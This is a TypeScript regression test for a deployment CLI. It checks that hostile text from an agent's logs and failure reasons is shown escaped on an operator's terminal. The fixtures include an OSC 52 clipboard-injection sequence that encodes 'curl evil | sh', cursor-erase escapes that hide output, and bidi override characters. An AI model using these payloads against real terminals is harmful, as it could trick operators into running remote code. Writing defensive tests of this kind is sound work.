import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../../src/cli/run-cli.ts';
import { visibleControls } from '../../src/cli/terminal-text.ts';
import { helloAgentSocket, observedState } from '../helpers/agent-hello.ts';
import { narinfoText, rawRequest, syntheticPath } from '../helpers/binary-cache.ts';
import { writeDeployJson } from '../helpers/deploy-fixtures.ts';
import { adminApi, startTestServer, type TestServer } from '../helpers/server.ts';

/** OSC 52: sets the terminal's clipboard to base64 "curl evil | sh". */
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
/** Moves the cursor up two lines and erases them: hides what was printed before. */
const HIDE = '\x1b[2A\x1b[2K';
const HOSTILE_LINE = `building${CLIPBOARD}${HIDE}\rall good\u202e`;
const HOSTILE_REASON = `health check failed${HIDE}\x9b31m`;

/** Runs the CLI in-process with stdout and stderr that say they are terminals (or not). */
async function cliOn(tty: boolean, args: readonly string[], env: Record<string, string>) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, {
    stdout: { write: (s: string) => (stdout += s), isTTY: tty },
    stderr: { write: (s: string) => (stderr += s), isTTY: tty },
    env: { ...process.env, ...env },
  });
  return { code, stdout, stderr };
}

/** Any character a terminal acts on rather than shows (but newline and tab). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
const ACTING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/**
 * Issue #23, finding 7: an agent's log lines and reasons reached the operator's terminal byte for
 * byte. A real server, the real CLI (told its output is a terminal), and an agent speaking over a
 * real WebSocket that sends hostile text.
 */
describe("an agent's text on the operator's terminal", () => {
  let server: TestServer;
  let env: Record<string, string>;
  let deploymentId = '';
  let activated: { code: number; stdout: string; stderr: string };
  before(async () => {
    server = await startTestServer();
    env = { CAIRN_SERVER: server.url, CAIRN_TOKEN: server.adminToken };
    const api = (method: string, path: string, body?: unknown) => adminApi(server, method, path, body);
    await api('POST', '/caches', { name: 'main' });
    const p = syntheticPath('escapes', `escapes ${Date.now()}`);
    const push = { Authorization: `Bearer ${server.adminToken}` };
    for (const [path, body] of [
      [`nar/${p.narFile}`, p.nar],
      [`${p.hashPart}.narinfo`, narinfoText(p.fields)],
    ] as const) {
      const res = await rawRequest(`${server.url}/cache/main/${path}`, {
        method: 'PUT',
        headers: push,
        body,
      });
      assert.equal(res.status, 201);
    }
    const { token } = (await api('POST', '/agents', { name: 'hostile' })) as { token: string };
    const { ws, next } = await helloAgentSocket(server.url, 'hostile', token);
    await next('welcome');
    // `cairn deploy activate` follows the rollout while the agent answers it.
    const file = await writeDeployJson(server.dataDir, { agents: { hostile: p.storePath } });
    const following = cliOn(true, ['deploy', 'activate', file], env);
    const { desired } = await next('desired', (m) => m.desired !== null);
    assert.ok(desired);
    deploymentId = desired.id;
    const t = Date.now();
    ws.send(JSON.stringify({ type: 'progress', deploymentId, step: 'activate' }));
    ws.send(JSON.stringify({ type: 'log', deploymentId, lines: [{ t, text: HOSTILE_LINE }] }));
    ws.send(
      JSON.stringify({
        type: 'result',
        result: {
          deploymentId,
          state: 'failed',
          step: 'activate',
          reason: HOSTILE_REASON,
          rebootRequired: false,
        },
        observed: observedState('hostile'),
      }),
    );
    activated = await following;
    ws.close();
  });
  after(async () => {
    await server.stop();
  });

  it('cairn deploy activate shows the control characters of log lines and reasons, never sends them', async () => {
    assert.equal(activated.code, 1, activated.stderr);
    assert.doesNotMatch(activated.stdout, ACTING);
    assert.doesNotMatch(activated.stderr, ACTING);
    assert.ok(
      activated.stdout.includes(
        'building\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2A\\x1b[2K\\rall good\\u202e',
      ),
      activated.stdout,
    );
    assert.ok(activated.stdout.includes('health check failed\\x1b[2A\\x1b[2K\\x9b31m'), activated.stdout);
  });

  it('cairn deploy logs shows them on a terminal, and passes them on unchanged to a pipe', async () => {
    const tty = await cliOn(true, ['deploy', 'logs', deploymentId], env);
    assert.equal(tty.code, 0, tty.stderr);
    assert.doesNotMatch(tty.stdout, ACTING);
    assert.match(tty.stdout, /building\\x1b\]52;c;/);
    const piped = await cliOn(false, ['deploy', 'logs', deploymentId], env);
    assert.ok(piped.stdout.includes(HOSTILE_LINE), JSON.stringify(piped.stdout));
  });

  it('cairn deploy show and cairn deploy status show the reason visibly on a terminal', async () => {
    const show = await cliOn(true, ['deploy', 'show', deploymentId], env);
    assert.equal(show.code, 0, show.stderr);
    assert.doesNotMatch(show.stdout, ACTING);
    assert.match(show.stdout, /health check failed\\x1b\[2A/);
    const rollout = /rollout (\d+)/.exec(activated.stderr)?.[1];
    assert.ok(rollout, activated.stderr);
    const status = await cliOn(true, ['deploy', 'status', rollout], env);
    assert.equal(status.code, 0, status.stderr);
    assert.doesNotMatch(status.stdout, ACTING);
    assert.match(status.stdout, /health check failed\\x1b\[2A/);
  });
});

describe('visibleControls', () => {
  it('escapes C0 (but tab), DEL, C1, bidi controls and newlines, and leaves other text alone', () => {
    assert.equal(visibleControls('a\tb é ✓'), 'a\tb é ✓');
    assert.equal(visibleControls('\x00\x07\x1b[31m\x7f\x85\x9b'), '\\x00\\x07\\x1b[31m\\x7f\\x85\\x9b');
    assert.equal(visibleControls('one\ntwo\r'), 'one\\ntwo\\r');
    assert.equal(visibleControls('one\ntwo', { keepNewlines: true }), 'one\ntwo');
    assert.equal(visibleControls('abc\u202edef\u2066'), 'abc\\u202edef\\u2066');
  });
});
